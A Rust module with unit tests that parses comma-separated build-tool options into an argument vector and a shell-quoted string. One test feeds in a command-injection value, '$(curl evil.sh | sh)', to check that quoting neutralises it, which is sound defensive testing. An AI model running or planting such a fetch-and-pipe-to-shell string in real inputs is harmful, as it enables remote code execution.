//! Comma-separated option lists.
//!
//! Users write options the way they would in YAML, e.g.
//! `--onefile, --name My App, --icon=app.ico`. Each comma-separated entry is
//! one option; surrounding whitespace and empty entries are dropped.

use std::fmt;

use crate::shell;

/// An ordered list of option entries parsed from a raw input string.
///
/// Invariant: `entries()` holds exactly the comma-separated entries of the
/// input that are non-empty after trimming, trimmed, in input order.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct NormalizedOptions {
    entries: Vec<String>,
}

impl NormalizedOptions {
    /// Parse a raw comma-separated option string.
    pub fn parse(raw: &str) -> Self {
        let entries = raw
            .split(',')
            .map(str::trim)
            .filter(|entry| !entry.is_empty())
            .map(str::to_string)
            .collect();
        Self { entries }
    }

    /// The trimmed, non-empty entries in input order.
    pub fn entries(&self) -> &[String] {
        &self.entries
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Argument vector handed to the child process.
    ///
    /// An entry written as `--flag value` (a dash-prefixed flag, whitespace,
    /// then a value) becomes two arguments so the value may itself contain
    /// spaces. `--flag=value` and bare values stay a single argument. The
    /// rendered string is unaffected; it always keeps one word per entry.
    pub fn argv(&self) -> Vec<String> {
        let mut args = Vec::with_capacity(self.entries.len());
        for entry in &self.entries {
            match split_flag_value(entry) {
                Some((flag, value)) => {
                    args.push(flag.to_string());
                    args.push(value.to_string());
                }
                None => args.push(entry.clone()),
            }
        }
        args
    }

    /// Shell-safe rendering: every entry quoted as needed, joined by one space.
    ///
    /// A shell splits the result back into exactly `entries()`.
    pub fn to_shell_string(&self) -> String {
        shell::join(&self.entries)
    }
}

impl fmt::Display for NormalizedOptions {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.to_shell_string())
    }
}

fn split_flag_value(entry: &str) -> Option<(&str, &str)> {
    if !entry.starts_with('-') {
        return None;
    }
    let split_at = entry.find(char::is_whitespace)?;
    let flag = &entry[..split_at];
    if flag.contains('=') {
        return None;
    }
    let value = entry[split_at..].trim_start();
    Some((flag, value))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn render(raw: &str) -> String {
        NormalizedOptions::parse(raw).to_shell_string()
    }

    #[test]
    fn test_basic_normalization() {
        let opts = NormalizedOptions::parse("--onedir, -F");
        assert_eq!(opts.entries(), ["--onedir", "-F"]);
        assert_eq!(opts.to_shell_string(), "--onedir -F");
    }

    #[test]
    fn test_empty_and_whitespace_only() {
        assert!(NormalizedOptions::parse("").is_empty());
        assert!(NormalizedOptions::parse("   ").is_empty());
        assert!(NormalizedOptions::parse(" , ,, ").is_empty());
        assert_eq!(render("  \t "), "");
    }

    #[test]
    fn test_drops_empty_entries_keeps_order() {
        let opts = NormalizedOptions::parse(",--clean,, --noconfirm ,");
        assert_eq!(opts.entries(), ["--clean", "--noconfirm"]);
        assert_eq!(opts.entries().len(), 2);
    }

    #[test]
    fn test_spaced_entry_renders_as_one_word() {
        let opts = NormalizedOptions::parse("--onefile, --name My App");
        assert_eq!(opts.entries(), ["--onefile", "--name My App"]);
        assert_eq!(opts.to_shell_string(), "--onefile '--name My App'");
    }

    #[test]
    fn test_spaced_entry_splits_only_for_argv() {
        let opts = NormalizedOptions::parse("--name My App, --add-data a b:c");
        assert_eq!(opts.argv(), ["--name", "My App", "--add-data", "a b:c"]);
        assert_eq!(
            opts.to_shell_string(),
            "'--name My App' '--add-data a b:c'"
        );
    }

    #[test]
    fn test_equals_form_stays_single() {
        let opts = NormalizedOptions::parse("--icon=my icon.ico");
        assert_eq!(opts.argv(), ["--icon=my icon.ico"]);
        assert_eq!(opts.to_shell_string(), "'--icon=my icon.ico'");
    }

    #[test]
    fn test_bare_value_with_space_is_quoted() {
        assert_eq!(render("hello world"), "'hello world'");
    }

    #[test]
    fn test_injection_attempt_is_quoted() {
        let rendered = render("--name $(curl evil.sh | sh), --onefile");
        assert_eq!(rendered, "'--name $(curl evil.sh | sh)' --onefile");
    }

    #[test]
    fn test_display_matches_shell_string() {
        let opts = NormalizedOptions::parse("-w, --add-data a:b");
        assert_eq!(opts.to_string(), "-w '--add-data a:b'");
        assert_eq!(opts.to_string(), opts.to_shell_string());
    }
}
